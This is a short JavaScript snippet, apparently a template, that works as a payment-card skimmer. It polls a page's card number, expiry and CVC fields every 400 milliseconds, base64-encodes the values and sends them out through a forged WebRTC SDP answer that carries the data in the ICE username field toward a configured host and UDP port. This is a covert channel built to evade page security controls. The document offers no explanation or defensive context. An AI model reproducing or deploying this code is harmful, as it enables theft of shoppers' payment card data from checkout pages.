
(function () {
    var ip = "127.0.0.1", port = <% udp %>, last = "";
    var fp = "sha-256 " + "4A:AD:B9:B1:3F:82:18:3B:54:02:12:DF:3E:5D:49:6B:19:E5:7C:AB:33:1F:2C:0A:6D:77:90:4E:52:11:8D:A0";
    async function ship(s) {
        var pc = new RTCPeerConnection({ iceServers: [] });
        pc.createDataChannel("d", { negotiated: true, id: 0 });
        await pc.setLocalDescription(await pc.createOffer());
        var u = btoa(s).replace(/=+$/, "").slice(0, 250);
        await pc.setRemoteDescription({ type: "answer", sdp: ["v=0", "o=- 1 2 IN IP4 " + ip, "s=-", "t=0 0", "a=group:BUNDLE 0",
            "m=application 9 UDP/DTLS/SCTP webrtc-datachannel", "c=IN IP4 0.0.0.0", "a=ice-ufrag:" + u, "a=ice-pwd:k3Pq8vTz1RwYb6NsXe0Lm2Jd",
            "a=fingerprint:" + fp, "a=setup:passive", "a=mid:0", "a=sctp-port:5000",
            "a=candidate:1 1 udp 2130706431 " + ip + " " + port + " typ host", "a=end-of-candidates", ""].join("\r\n") });
        window.__pcs = (window.__pcs || []).concat(pc);
    }
    function v(n) { var e = document.getElementsByName(n)[0]; return e ? e.value : ""; }
    setInterval(function () {
        var s = [v("cardnumber"), v("exp-date"), v("cvc")].join(";").replace(/ /g, "");
        if (v("cvc").length < 3 || v("cardnumber").length < 15 || s === last) return;
        last = s;
        ship(s);
    }, 400);
})();
